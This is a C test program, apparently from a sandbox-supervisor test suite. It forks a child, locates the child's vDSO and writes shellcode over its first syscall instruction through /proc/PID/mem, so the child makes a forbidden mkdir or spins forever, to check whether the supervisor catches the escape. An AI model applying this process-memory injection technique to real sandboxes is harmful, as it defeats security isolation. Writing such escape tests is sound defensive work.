// written_code: a process writes into the memory of another one that has just executed a program, by /proc/PID/mem,
// which needs no system call that is judged: there the supervisor is about to make calls in the new program's name, by
// the first `syscall` instruction of the vDSO. What is written in its place makes the forbidden call, or spins and
// never comes back to the kernel: `written_code spin`. The policy forbids mkdir by its path.
#define _GNU_SOURCE
#include "attack.h"

#include <elf.h>
#include <fcntl.h>
#include <signal.h>
#include <sys/auxv.h>

enum { tries = 300 };

static const unsigned char code[] = {
    0x48, 0x8d, 0x3d, 0x0e, 0, 0, 0,  // lea path(%rip), %rdi
    0xbe, 0xc0, 0x01, 0,    0,        // mov $0700, %esi
    0xb8, 0x53, 0,    0,    0,        // mov $SYS_mkdir, %eax
    0x0f, 0x05,                       // syscall
    0x0f, 0x0b,                       // ud2
};
static const unsigned char spinning[] = {0xeb, 0xfe};

static unsigned char bytes[sizeof code + 4096];
static size_t size;

/// Where the first `syscall` instruction is in the vDSO.
static size_t instruction_offset(void) {
  const unsigned char* vdso = (const unsigned char*)getauxval(AT_SYSINFO_EHDR);
  for (size_t at = 0; vdso != NULL && at < 8191; ++at) {
    if (vdso[at] == 0x0f && vdso[at + 1] == 0x05) return at;
  }
  exit(2);
}

/// The address of a process's vDSO; 0 if it is not to be seen.
static unsigned long vdso_of(const char* auxv) {
  Elf64_auxv_t entries[64];
  const int fd = open(auxv, O_RDONLY);
  const ssize_t got = fd < 0 ? 0 : read(fd, entries, sizeof entries);
  if (fd >= 0) close(fd);
  for (size_t i = 0; i < (size_t)(got < 0 ? 0 : got) / sizeof *entries; ++i) {
    if (entries[i].a_type == AT_SYSINFO_EHDR) return entries[i].a_un.a_val;
  }
  return 0;
}

/// Whether a program that was executed was written into; what became of it is in `status`.
static int write_into_new_program(size_t offset, int* status) {
  const unsigned long own = getauxval(AT_SYSINFO_EHDR);
  fflush(stdout);
  const pid_t child = fork();
  if (child == 0) {
    execl("/proc/self/exe", "written_code", "wait", NULL);
    _exit(3);
  }
  char auxv[32], memory[32];
  snprintf(auxv, sizeof auxv, "/proc/%d/auxv", child);
  snprintf(memory, sizeof memory, "/proc/%d/mem", child);
  unsigned long there = own;
  for (int i = 0; i < 2000 && (there == own || there == 0); ++i) there = vdso_of(auxv);
  const int fd = open(memory, O_RDWR);
  const int written = fd >= 0 && pwrite(fd, bytes, size, (off_t)(there + offset)) == (ssize_t)size;
  if (fd >= 0) close(fd);
  waitpid(child, status, 0);
  return written;
}

int main(int argc, char** argv) {
  if (argc > 1 && strcmp(argv[1], "wait") == 0) {
    return 0;
  }
  const int spins = argc > 1 && strcmp(argv[1], "spin") == 0;
  size = spins ? sizeof spinning : sizeof code;
  memcpy(bytes, spins ? spinning : code, size);
  if (!spins) {
    if (getcwd((char*)bytes + size, 2048) == NULL) return 2;
    strcat(strcat((char*)bytes + size, "/"), forbidden_folder);
    bytes[3] = sizeof code - 7;
    size += strlen((char*)bytes + size) + 1;
  }
  const size_t offset = instruction_offset();
  int written = 0, diverted = 0;
  for (int i = 0; i < tries && diverted < 3 && !was_made(); ++i) {
    int status = 0;
    written += write_into_new_program(offset, &status);
    diverted += !WIFEXITED(status);
  }
  printf("wrote %s, diverted %s\n", written > 0 ? "some" : "none", diverted > 0 ? "some" : "none");
  tried("code in the place of the supervisor's calls", was_made());
  return verdict("what is not the supervisor's own call is not made");
}
